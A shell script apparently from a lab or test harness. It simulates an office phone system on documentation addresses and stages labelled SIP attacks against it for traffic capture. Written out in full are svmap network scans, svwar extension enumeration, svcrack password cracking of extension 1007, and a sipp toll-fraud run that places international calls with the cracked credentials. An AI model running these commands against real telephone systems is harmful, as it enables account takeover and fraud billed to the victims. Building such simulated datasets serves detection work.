# An hour of an office, pressed into less than three minutes, in which somebody looks for telephone
# systems, finds out extensions, finds the password of one of them, and somebody else telephones with
# it at the office's cost.
open_office
add_attacker intruder 203.0.113.66
add_attacker thief 203.0.113.129
start_office_capture
keep_alive 23
office_day 19 160
at 30 new_phone 1009
at 25 attack A1 scan intruder 5060 "svmap asks all addresses of the network by OPTIONS who is there." \
    "$(version_of svmap)" svmap -b 203.0.113.66 -x 203.0.113.66 -P 5060 -t 0.05 192.0.2.0/24
at 55 attack A2 scan intruder 5061 "svwar asks the proxy for 1000 to 1049 by REGISTER." \
    "$(version_of svwar)" svwar -b 203.0.113.66 -x 203.0.113.66 -P 5061 -t 0.1 -e 1000-1049 192.0.2.1
words >"$scratch/words"
at 80 attack A3 password_cracking intruder 5062 "svcrack tries words as passwords of 1007 until one is right." \
    "$(version_of svcrack)" svcrack -b 203.0.113.66 -x 203.0.113.66 -P 5062 -t 0.08 -u "$WEAK" -d "$scratch/words" 192.0.2.1
printf '%s\n' SEQUENTIAL '900999550101;' '00999550101;' '00999550101;' '00999550102;' '00999550102;' '00999550103;' \
    >"$scratch/numbers.csv"
at 125 attack A4 toll_fraud thief 5060 "With the password of 1007 somebody calls numbers abroad: six times, of which one is misdialled." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/fraud.xml" -nostdin -inf "$scratch/numbers.csv" \
    -i 203.0.113.129 -mi 203.0.113.129 -p 5060 -key user "$WEAK" -au "$WEAK" -ap "$WEAK_PASSWORD" -d 18000 \
    -r 1 -rp 2500 -m 6 -l 6 192.0.2.1:5060
echo "$WEAK toll_fraud" >>"$scratch/users"
play
wait_for A1 A2 A3 A4
close_office
expect_said A3 "$WEAK_PASSWORD"
